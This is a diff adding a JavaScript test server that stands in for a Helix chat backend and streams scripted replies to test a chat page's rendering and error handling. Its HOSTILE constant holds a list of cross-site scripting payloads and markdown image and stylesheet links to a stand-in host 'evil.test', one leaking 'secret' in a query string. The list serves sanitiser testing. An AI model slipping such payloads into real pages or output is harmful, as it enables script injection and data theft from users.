@@ -1,0 +1,145 @@
+// Stands between the browser and a Helix server: hands the page on as it is, with its headers, and answers chats itself,
+// with what a test wants to see: hostile text, errors, a server that goes away.
+import http from 'node:http';
+
+const PIECE_MS = 8;
+
+const EVERYTHING = `Machines of a cluster differ. **Helix** gives each its share, by a *maximum flow*:
+
+| machine | layers | tokens/s |
+| :-- | --: | --: |
+| big | 0 to 3 | 412.5 |
+| medium | 4 to 6 | 280.0 |
+| small | 7 | 96.2 |
+
+1. Measure every machine and link.
+2. Plan who holds which layers:
+   - no layer is left out
+   - the slowest hop decides
+3. Send each request down a pipeline of its own.
+
+\`\`\`python
+def max_flow(graph: dict[str, dict[str, float]], source: str, sink: str) -> float:
+    """Edmonds and Karp: the shortest path that has room, again and again."""
+    flow = 0.0
+    while (path := shortest_path(graph, source, sink)) is not None:
+        room = min(graph[a][b] for a, b in zip(path, path[1:]))
+        for a, b in zip(path, path[1:]):
+            graph[a][b] -= room  # what is left of this edge
+        flow += room
+    return flow
+\`\`\`
+
+> What does not fit waits, and nothing overtakes it.
+
+More in [the paper](https://arxiv.org/abs/2406.01566), or \`helix plan --help\`.`;
+
+// Whatever of this runs sets window.pwned or asks the host for something.
+export const HOSTILE = `Here is <script>window.pwned = 1</script> and <img src=x onerror="window.pwned = 2">.
+
+![secret](http://evil.test/leak.png?q=secret) <svg onload="window.pwned = 3"><iframe src="http://evil.test/frame"></iframe>
+
+[click](javascript:window.pwned=4) [data](data:text/html,<script>window.pwned=5</script>) [hash](#/chat/other) [ok](https://example.test/ "t\\" onclick=\\"window.pwned=6")
+
+<a href="http://evil.test" onclick="window.pwned=7">raw</a> <style>@import url(http://evil.test/a.css);</style><link rel=stylesheet href=http://evil.test/b.css>
+
+\`\`\`html" onmouseover="window.pwned=8
+<script>window.pwned = 9</script>
+\`\`\`
+
+<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=10></style></mglyph></table></mtext></math>
+<form action=http://evil.test><button formaction=javascript:window.pwned=11>go</button></form>
+<details open ontoggle=window.pwned=12><base href=http://evil.test/>
+`;
+
+function pieces(text) {
+  return text.match(/[\s\S]{1,6}/g) ?? [];
+}
+
+async function stream(response, deltas, { end = true, finish = 'stop', wait = PIECE_MS } = {}) {
+  response.writeHead(200, { 'content-type': 'text/event-stream' });
+  const send = (object) => response.write(`data: ${JSON.stringify(object)}\n\n`);
+  let tokens = 0;
+  for (const delta of deltas) {
+    if (response.destroyed) return;
+    send({ model: 'stand-in', choices: [{ index: 0, delta, finish_reason: null }] });
+    tokens += 1;
+    await new Promise((resolve) => setTimeout(resolve, wait));
+  }
+  if (!end) return response.destroy();
+  send({ choices: [{ index: 0, delta: {}, finish_reason: finish }] });
+  send({ choices: [], usage: { prompt_tokens: 31, completion_tokens: tokens, prompt_tokens_details: { cached_tokens: 16 } } });
+  response.end('data: [DONE]\n\n');
+}
+
+function refuse(response, status, message, headers = {}) {
+  response.writeHead(status, { 'content-type': 'application/json', ...headers });
+  response.end(JSON.stringify({ error: { message, type: 'x', code: 'x' } }));
+}
+
+// What is said decides what is answered; of what is to be refused, only the first try is.
+function answer(body, response, tries) {
+  const last = body.messages.at(-1);
+  const said = last.content;
+  const content = (text) => pieces(text).map((piece) => ({ content: piece }));
+  if (last.role === 'tool') return stream(response, content(`The tool says: ${said}`));
+  if (said.includes('everything')) {
+    const thought = pieces('The user asks how it works. A table, a list and code will do.');
+    return stream(response, [...thought.map((piece) => ({ reasoning_content: piece })), ...content(EVERYTHING)], { wait: 2 });
+  }
+  if (said.includes('hostile')) return stream(response, content(HOSTILE), { wait: 1 });
+  if (tries === 1 && said.includes('break off')) return stream(response, content('This will not be wh'), { end: false });
+  if (tries === 1 && said.includes('busy')) return refuse(response, 429, 'Too many requests wait.', { 'retry-after': '2' });
+  if (tries === 1 && said.includes('starting')) return refuse(response, 503, 'No placement is in force yet.', { 'retry-after': '1' });
+  if (said.includes('long')) return stream(response, content('word and more words, '.repeat(200)), { wait: 1 });
+  if (said.includes('call')) {
+    const part = (more) => ({ tool_calls: [{ index: 0, ...more }] });
+    return stream(response, [
+      part({ id: 'call_1', function: { name: 'get_weather', arguments: '' } }),
+      ...pieces('{"city": "Paris", "days": 3}').map((piece) => part({ function: { arguments: piece } })),
+    ], { finish: 'tool_calls' });
+  }
+  return stream(response, content(`You said: ${said}`));
+}
+
+export class StandIn {
+  // upstream: the address of the Helix server whose page is shown.
+  constructor(upstream) {
+    this.upstream = upstream;
+    this.requests = []; // bodies of chats
+    this.port = 0;
+  }
+
+  async start() {
+    this.server = http.createServer((request, response) => {
+      const parts = [];
+      request.on('data', (part) => parts.push(part));
+      request.on('end', () => this.#take(request, response, Buffer.concat(parts)));
+    });
+    await new Promise((resolve) => this.server.listen(this.port, '127.0.0.1', resolve));
+    this.port = this.server.address().port;
+    this.url = `http://127.0.0.1:${this.port}`;
+    return this;
+  }
+
+  async stop() {
+    this.server.closeAllConnections();
+    await new Promise((resolve) => this.server.close(resolve));
+  }
+
+  #take(request, response, body) {
+    if (request.url === '/v1/chat/completions') {
+      this.requests.push(JSON.parse(body));
+      const said = this.requests.at(-1).messages.at(-1).content;
+      const tries = this.requests.filter((one) => one.messages.at(-1).content === said).length;
+      return void answer(this.requests.at(-1), response, tries);
+    }
+    const headers = { ...request.headers, host: new URL(this.upstream).host };
+    const asked = http.request(this.upstream + request.url, { method: request.method, headers }, (answered) => {
+      response.writeHead(answered.statusCode, answered.headers);
+      answered.pipe(response);
+    });
+    asked.on('error', () => response.destroy());
+    asked.end(body);
+  }
+}
